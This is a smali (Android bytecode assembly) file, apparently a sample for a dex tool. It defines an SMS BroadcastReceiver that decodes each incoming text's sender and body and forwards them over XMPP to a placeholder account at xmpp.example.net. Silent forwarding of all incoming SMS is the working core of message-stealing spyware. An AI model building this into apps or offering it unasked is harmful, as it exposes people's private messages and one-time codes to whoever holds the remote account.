.class public Lorg/dexflow/sample/xmpp/SmsForwarder;
.super Landroid/content/BroadcastReceiver;
.source "SmsForwarder.java"

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/content/BroadcastReceiver;-><init>()V
    return-void
.end method

# Decodes every PDU of an incoming SMS with the legacy android.telephony.gsm API and forwards
# "sender: body" of each over XMPP.
.method public onReceive(Landroid/content/Context;Landroid/content/Intent;)V
    .registers 9
    invoke-virtual {p2}, Landroid/content/Intent;->getExtras()Landroid/os/Bundle;
    move-result-object v0
    if-nez v0, :have_extras
    return-void
    :have_extras
    const-string v1, "pdus"
    invoke-virtual {v0, v1}, Landroid/os/Bundle;->get(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, [Ljava/lang/Object;
    array-length v2, v0
    const/4 v3, 0x0
    :loop
    if-ge v3, v2, :done
    aget-object v4, v0, v3
    check-cast v4, [B
    invoke-static {v4}, Landroid/telephony/gsm/SmsMessage;->createFromPdu([B)Landroid/telephony/gsm/SmsMessage;
    move-result-object v4
    new-instance v1, Ljava/lang/StringBuilder;
    invoke-direct {v1}, Ljava/lang/StringBuilder;-><init>()V
    invoke-virtual {v4}, Landroid/telephony/gsm/SmsMessage;->getOriginatingAddress()Ljava/lang/String;
    move-result-object v5
    invoke-virtual {v1, v5}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    const-string v5, ": "
    invoke-virtual {v1, v5}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v4}, Landroid/telephony/gsm/SmsMessage;->getMessageBody()Ljava/lang/String;
    move-result-object v5
    invoke-virtual {v1, v5}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v1}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v1
    invoke-static {v1}, Lorg/dexflow/sample/xmpp/SmsForwarder;->forward(Ljava/lang/String;)V
    add-int/lit8 v3, v3, 0x1
    goto :loop
    :done
    return-void
.end method

.method private static forward(Ljava/lang/String;)V
    .registers 5
    new-instance v0, Lorg/jivesoftware/smack/ConnectionConfiguration;
    const-string v1, "xmpp.example.net"
    const/16 v2, 0x1466
    invoke-direct {v0, v1, v2}, Lorg/jivesoftware/smack/ConnectionConfiguration;-><init>(Ljava/lang/String;I)V
    new-instance v1, Lorg/jivesoftware/smack/XMPPConnection;
    invoke-direct {v1, v0}, Lorg/jivesoftware/smack/XMPPConnection;-><init>(Lorg/jivesoftware/smack/ConnectionConfiguration;)V
    invoke-virtual {v1}, Lorg/jivesoftware/smack/XMPPConnection;->connect()V
    invoke-virtual {v1}, Lorg/jivesoftware/smack/XMPPConnection;->getChatManager()Lorg/jivesoftware/smack/ChatManager;
    move-result-object v1
    const-string v2, "owner@example.net"
    const/4 v3, 0x0
    invoke-virtual {v1, v2, v3}, Lorg/jivesoftware/smack/ChatManager;->createChat(Ljava/lang/String;Lorg/jivesoftware/smack/MessageListener;)Lorg/jivesoftware/smack/Chat;
    move-result-object v1
    invoke-virtual {v1, p0}, Lorg/jivesoftware/smack/Chat;->sendMessage(Ljava/lang/String;)V
    return-void
.end method
